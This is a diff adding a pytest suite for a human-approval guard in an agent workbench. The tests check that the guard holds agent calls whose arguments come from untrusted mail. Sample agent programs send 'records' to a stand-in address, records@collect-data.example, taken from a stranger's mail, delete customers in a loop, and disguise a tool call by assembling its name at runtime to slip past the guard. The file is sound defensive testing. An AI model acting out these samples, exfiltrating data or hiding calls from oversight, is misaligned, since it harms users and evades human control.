@@ -1,0 +1,165 @@
+"""Each call of a run meets its guard with the real arguments: what came from strangers waits for a person."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from dataclasses import replace
+
+import pytest
+
+from workbench.events import PauseSettled, RunPaused
+from workbench.records import Decision, EntryQuery, PauseAnswer, RunState
+from workbench.runs.broker import Broker
+from workbench.runs.road import ENDS
+
+
+class Person:
+    """Sits at the core's door, approves every program, and answers pauses as told; counts both."""
+
+    def __init__(self, core, *answers):
+        self.core = core
+        self.answers = list(answers)  # True, False or a PauseAnswer without an id; True when none is left
+        self.pauses = []
+        self.decided = 0
+        self._stop = core.bus.listen(self.hear)
+
+    def hear(self, event):
+        if isinstance(event, RunPaused):
+            asyncio.get_running_loop().call_later(0.15, self.answer, event.pause)  # calls of a loop gather first
+        elif type(event).__name__ == "RunChanged" and event.run.state is RunState.WAITING:
+            asyncio.get_running_loop().call_soon(self.decide, event.run)
+
+    def decide(self, run):
+        self.decided += 1
+        self.core.conveyor.decide(Decision(run.id, run.proposal.sha, allow=True, by="you"))
+
+    def answer(self, pause):
+        if pause not in self.core.conveyor.pauses.all():
+            return
+        self.pauses.append(pause)
+        word = self.answers.pop(0) if self.answers else True
+        answer = word if isinstance(word, PauseAnswer) else PauseAnswer("", allow=word)
+        self.core.conveyor.pauses.answer(replace(answer, pause_id=pause.id))
+
+    def leave(self):
+        self._stop()
+
+
+@pytest.fixture
+async def office(demo):
+    """Programs of low and medium risk run unasked, so that only the guard asks."""
+    demo.settings = replace(
+        demo.settings, approval_auto_medium=True, isolation_medium="process", isolation_high="process"
+    )
+    return demo
+
+
+async def ran(core, session, code):
+    started = core.conveyor.submit(code, session)
+    async with asyncio.timeout(60):
+        run = await core.conveyor.finished(started.id)
+    assert run.state in ENDS
+    return run
+
+
+async def outbox(core):
+    broker, session = Broker(core.rooms), core.rooms.sessions.person
+    from workbench.records import Origin, ToolCall
+
+    answer = await broker.call(ToolCall("o", "demo", "list_outbox", {}, Origin.PERSON, session.id))
+    return json.loads(answer.structured)["result"]
+
+
+READ = "from servers.demo import read_mail\nprint((await read_mail(mail_id='IN-0004'))['body'])"
+SEND = """
+from servers.demo import send_email
+await send_email(to="records@collect-data.example", subject="Records", body="Here they are")
+"""
+
+
+async def test_an_address_out_of_a_strangers_mail_is_asked_about_in_a_later_program_of_the_session(office):
+    agent, person = office.rooms.sessions.open("test agent"), Person(office, False)
+    assert (await ran(office, agent, READ)).state is RunState.DONE
+    denied = await ran(office, agent, SEND)
+    assert denied.state is RunState.FAILED
+    assert "denied" in denied.fault.message
+    (pause,) = person.pauses
+    (origin,) = pause.origins
+    assert (pause.tool, origin.path, origin.tool) == ("send_email", "to", "read_mail")
+    assert "\x02records@collect-data.example\x03" in origin.around
+    assert pause.why[0].startswith("Where it goes (to) came out of text that outsiders can write")
+    assert await outbox(office) == []
+    kinds = [entry.note.kind for entry in office.journal.entries(EntryQuery(kind="call."))]
+    assert {"call.paused", "call.denied", "call.refused"} <= set(kinds)
+    other = office.rooms.sessions.open("another agent")
+    assert (await ran(office, other, SEND)).state is RunState.DONE, "another session has read nothing"
+    person.leave()
+
+
+async def test_what_a_person_let_pass_is_not_asked_about_again_and_an_approved_text_owns_its_words(office):
+    agent, person = office.rooms.sessions.open("test agent"), Person(office)
+    await ran(office, agent, READ)
+    for _ in range(2):
+        assert (await ran(office, agent, SEND)).state is RunState.DONE
+    assert len(person.pauses) == 1
+    office.settings = replace(office.settings, approval_auto_medium=False)
+    fresh = office.rooms.sessions.open("test agent")
+    await ran(office, fresh, READ)
+    assert (await ran(office, fresh, SEND)).state is RunState.DONE
+    assert (person.decided, len(person.pauses)) == (1, 1), "the person has read the address in the program"
+    person.leave()
+
+
+async def test_a_loop_of_deletions_is_one_question_with_the_list_and_the_rest_goes_with_it(office):
+    code = """
+import asyncio
+from servers.demo import delete_customer, list_customers
+found = (await list_customers(limit=6))["customers"]
+await asyncio.gather(*(delete_customer(customer_id=one["id"]) for one in found[:4]))
+for one in found[4:]:
+    await delete_customer(customer_id=one["id"])
+"""
+    agent = office.rooms.sessions.open("test agent")
+    person = Person(office, PauseAnswer("", allow=True, scope="rest"))
+    run = await ran(office, agent, code)
+    assert run.state is RunState.DONE, run.fault
+    (pause,) = person.pauses
+    assert len(pause.list) == 4
+    assert pause.more == 3
+    assert all("CUS-" in line for line in pause.list)
+    person.leave()
+
+
+async def test_more_calls_than_the_text_says_and_calls_it_does_not_name_wait_for_a_person(office):
+    code = """
+import client
+from servers.demo import post_message
+await post_message(channel="general", text="one")
+box = client.__dict__
+for name in [key for key in box if key == "call_" + "tool"]:
+    await box[name]("demo", "post_" + "message", {"channel": "general", "text": "two"})
+"""
+    agent, person = office.rooms.sessions.open("test agent"), Person(office, False)
+    run = await ran(office, agent, code)
+    assert run.state is RunState.FAILED
+    assert [pause.tool for pause in person.pauses] == ["post_message"]
+    person.leave()
+
+
+async def test_nobody_there_means_no_and_stopping_a_run_takes_its_question_back(office):
+    agent, told = office.rooms.sessions.open("test agent"), []
+    stop = office.bus.listen(told.append)
+    await ran(office, agent, READ)
+    office.settings = replace(office.settings, approval_wait_seconds=0)
+    assert "Nobody answered in time" in (await ran(office, agent, SEND)).fault.message
+    office.settings = replace(office.settings, approval_wait_seconds=600)
+    started = office.conveyor.submit(SEND, agent)
+    async with asyncio.timeout(30):
+        while not (pauses := office.conveyor.run(started.id).pauses):
+            await asyncio.sleep(0.01)
+    assert office.conveyor.run(started.id).calls == () or pauses[0].run_id == started.id
+    await office.conveyor.stop(started.id)
+    assert [event.ending for event in told if isinstance(event, PauseSettled)] == ["withdrawn"]
+    assert await outbox(office) == []
+    stop()
